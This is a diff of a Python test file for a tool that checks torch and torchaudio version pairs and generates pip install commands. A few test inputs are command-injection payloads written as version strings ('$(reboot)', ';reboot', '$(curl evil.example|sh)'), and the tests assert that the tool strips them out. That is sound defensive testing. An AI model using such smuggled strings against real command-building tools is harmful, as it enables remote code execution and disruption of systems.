@@ -9,13 +9,12 @@ from msgspec.structs import replace
 from vcf.catalogue.model import Package
 from vcf.catalogue.stack import stack
 from vcf.catalogue.wheels import NoWheel, newest_wheel
+from vcf.judge.audio import audio_command, audio_gates
 from vcf.judge.checkup import checkup
 from vcf.judge.context import Context
 from vcf.judge.model import Gate
 from vcf.judge.packages import (
     FFMPEG,
-    audio_command,
-    audio_gates,
     build_of,
     codec_command,
     codec_gates,
@@ -56,7 +55,8 @@ def audio(platform: str = LINUX, given: Subject = VOXCPM, **software: str | None
         assert gate.status == "fail"
         assert gate.source.startswith("https://")
         assert (gate.have, gate.need) == (
-            f"torchaudio {software['torchaudio']}", f"torch {software['torch']}",
+            f"torchaudio {software['torchaudio']}" if software["torchaudio"] else None,
+            f"torch {software['torch']}",
         )  # fmt: skip
     return found[0] if found else None
 
@@ -90,20 +90,48 @@ def cure(gate: Gate) -> str | None:
         (MAC, "2.13.0", "2.9.0", "audio-torch", "2.11.0"),
         # arm64: PyPI's build there is the CUDA one
         (ARM, "2.13.0+cu130", "2.8.0", "audio-torch", f"2.11.0 --index-url {INDEX}/cu130"),
-        # nothing is known to fit
-        (LINUX, "2.15.0", "2.11.0+cu130", "audio-cuda", None),
-        (LINUX, "2.15.0+cu132", "2.11.0+cu130", "audio-cuda", None),
-        (ARM, "2.8.0+cu128", "2.9.0", "audio-torch", None),
-        (LINUX, "9.9.9", "2.8.0", "audio-torch", None),
     ],
 )  # fmt: skip
 def test_pairs_that_fail(
-    platform: str, torch: str, torchaudio: str, text: str, command: str | None
+    platform: str, torch: str, torchaudio: str, text: str, command: str
 ) -> None:
     gate = audio(platform, torch=torch, torchaudio=torchaudio)
     assert gate.text.id == text
     assert dict(gate.text.values) == {"torch": torch, "audio": torchaudio}
-    assert cure(gate) == (None if command is None else f"{FORCE} torchaudio=={command}")
+    assert cure(gate) == f"{FORCE} torchaudio=={command}"
+
+
+@pytest.mark.parametrize(
+    ("platform", "torch", "torchaudio"),
+    [
+        (LINUX, "2.15.0", "2.11.0+cu130"),
+        (LINUX, "2.15.0+cu132", "2.11.0+cu130"),
+        (ARM, "2.8.0+cu128", "2.9.0"),
+        (LINUX, "9.9.9", "2.8.0"),
+        (LINUX, "2.13.0+$(reboot)", "2.8.0"),
+        (LINUX, "2.13.0+cpu;reboot", "2.8.0"),
+    ],
+)
+def test_where_no_torchaudio_fits_torch_is_exchanged_with_it(
+    platform: str, torch: str, torchaudio: str
+) -> None:
+    """pip takes torch 2.15 for voxcpm today, and no torchaudio exists for its CUDA."""
+    command = cure(audio(platform, torch=torch, torchaudio=torchaudio))
+    assert command is not None and " torch==" in command and " torchaudio==" in command
+    assert "reboot" not in command
+
+
+def test_no_build_of_a_stranger_goes_into_a_command() -> None:
+    assert build_of("2.13.0+cpu;reboot", "linux-x86_64") is None
+    assert build_of("2.13.0+rocm7.2", "linux-x86_64") == "rocm7.2"
+    assert "evil" not in codec_command("2.13.0+$(curl evil.example|sh)", "linux-x86_64")
+
+
+def test_a_torchaudio_that_is_missing() -> None:
+    assert audio(LINUX, torch="2.13.0+cpu", torchaudio=None) is None  # nor is voxcpm there
+    gate = audio(LINUX, torch="2.13.0+cpu", torchaudio=None, voxcpm="2.0.3")
+    assert (gate.text.id, gate.status) == ("audio-missing", "fail")
+    assert cure(gate) == f"{FORCE} torchaudio==2.11.0 --index-url {INDEX}/cpu"
 
 
 @pytest.mark.parametrize(
@@ -361,7 +389,8 @@ def test_the_wheels_for_a_card() -> None:
     assert (wheels.why_not, wheels.driver_last) == (None, None)
     version, build = wheels.torch.split("+")
     assert f"torch=={version}" in wheels.install
-    assert build in wheels.builds[0]
+    assert any(build in one for one in wheels.builds)
+    assert wheels.torchaudio is not None  # what is told to be installed can be used
     assert len(wheels.builds) == len(set(wheels.builds)) > 5
     assert wheels.driver_min
     assert wheels.sources
